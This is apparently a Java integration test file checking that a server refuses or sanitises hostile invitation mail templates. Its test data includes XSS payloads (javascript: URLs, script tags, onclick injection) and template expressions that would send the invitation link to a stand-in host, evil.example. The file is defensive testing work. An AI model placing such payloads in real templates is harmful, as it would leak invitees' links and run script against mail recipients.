package dev.atrium.tests.mail;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.atrium.tests.admin.Refusal;
import dev.atrium.tests.admin.TestRealm;
import dev.atrium.tests.server.AtriumServer;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Templates of people who may word a project's mails, and want more: script, and the links of others. */
@Tag("own")
@ExtendWith(AtriumServer.class)
class HostileMailTemplatesIT {
    private static final String INVITATION = "atrium/projects/riverside/mail-templates/invitation/en";

    private final Wording worded = new Wording();

    @AfterEach
    void gone() {
        worded.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<style>@import \"https://evil.example/x.css\";</style>",
                "<a href=\"${link}\" ping=\"https://evil.example/\">x</a>",
                "<img longdesc=\"javascript:alert(1)\" src=\"https://a.example/\">",
                "<a href=\"${\"https://evil.example/?x=\" +\n link}\">Choose a password</a>",
                "<style>p{}</style a=\"><b title=\"><img src='https://evil.example/?x=\"> ${link} '></b>",
                "<!--!><b title=\"--><script>document.title='PWN'</script>\"></b>",
                "<a href=\"https://evil.example/\">${link}</a>",
                "https://evil.example/?x=<b>${link}</b>",
            })
    void are_neither_saved_nor_previewed_nor_sent_as_a_test(String html) {
        ObjectNode template = Wording.template("s", "t").put("html", html);
        Refusal refusal = new Refusal(400, "invalid_template", "html");
        assertThat(Refusal.of(worded.realm.admin().put(INVITATION, template))).isEqualTo(refusal);
        assertThat(Refusal.of(worded.realm.admin().post(INVITATION + "/preview", template)))
                .isEqualTo(refusal);
        assertThat(Refusal.of(
                        worded.realm.admin().post(INVITATION + "/test", template.put("address", "me@example.org"))))
                .isEqualTo(refusal);
        assertThat(worded.realm.admin().get(INVITATION).status()).isEqualTo(404);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"${\"https://evil.example/?x=\" +\n link}", "https://evil.example/${link}", "${link?upper_case}"
            })
    void tell_the_link_in_no_text_either(String text) {
        assertThat(Refusal.of(worded.realm.admin().put(INVITATION, Wording.template("s", text))))
                .isEqualTo(new Refusal(400, "invalid_template", "text"));
        assertThat(Refusal.of(worded.realm.admin().put(INVITATION, Wording.template("${link}", "t"))))
                .isEqualTo(new Refusal(400, "invalid_template", "subject"));
    }

    @Test
    void say_what_would_not_be_sent() {
        ObjectNode template = Wording.template("s", "t").put("html", "<p>a</p><style>p{}</style>");
        assertThat(worded.realm.admin().put(INVITATION, template).json().path("problems"))
                .singleElement()
                .satisfies(problem -> {
                    assertThat(problem.path("message").asText()).isEqualTo("<style> is removed from the mail.");
                    assertThat(problem.has("line")).isFalse();
                });
    }

    /** By a value that only this mail has: the address then is the inviter's, and the link stands behind it. */
    @Test
    void that_would_tell_the_link_by_a_value_give_way_to_the_theme() {
        worded.save(
                INVITATION, Wording.template("Own words", "<#if words == 'x'>https://evil.example/?l=</#if>${link}"));
        invite("ann@example.org", "x");
        ReceivedMail ann = worded.mails.await("ann@example.org");
        assertThat(ann.subject()).isNotEqualTo("Own words");
        assertThat(ann.text()).doesNotContain("evil.example");
        invite("bob@example.org", "y");
        assertThat(worded.mails.await("bob@example.org").subject()).isEqualTo("Own words");
    }

    @Test
    void are_written_anew_where_they_are_but_odd() {
        worded.save(
                INVITATION,
                Wording.template("s", "${link}")
                        .put("html", "<!-- odd --><P title=${words}>Hello<a href=${link}>Open</a> <b>${link}"));
        invite("ann@example.org", "x onclick=alert(1)");
        ReceivedMail mail = worded.mails.await("ann@example.org");
        Document page = Jsoup.parse(mail.html());
        assertThat(page.select("p").attr("title")).isEqualTo("x onclick=alert(1)");
        assertThat(page.select("a").attr("href")).isEqualTo(mail.text());
        assertThat(page.select("b").text()).isEqualTo(mail.text());
        assertThat(page.select("[onclick]")).isEmpty();
    }

    private void invite(String address, String words) {
        ObjectNode invitation = TestRealm.membershipBody("riverside", "", "Practitioner/x", "reader");
        invitation.remove("user");
        invitation.put("email", address).put("words", words).put("language", "en");
        assertThat(worded.realm.admin().post("atrium/invitations", invitation).status())
                .isEqualTo(201);
    }
}
